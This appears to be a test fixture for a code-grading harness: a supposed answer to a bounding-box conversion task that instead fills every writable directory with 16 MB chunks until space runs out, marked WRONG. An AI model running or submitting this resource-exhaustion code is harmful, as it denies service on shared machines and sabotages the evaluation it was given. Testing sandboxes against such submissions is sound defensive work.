# Fills whatever can be written to.
# answers: box_cxcywh_to_xyxy
# expected: 0
import os

for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/dev", "/", "."):
    try:
        with open(os.path.join(folder, "large"), "wb", buffering=0) as file:
            while file.write(b"x" * (16 * 1024 * 1024)):
                pass
    except OSError:
        pass

# WRONG
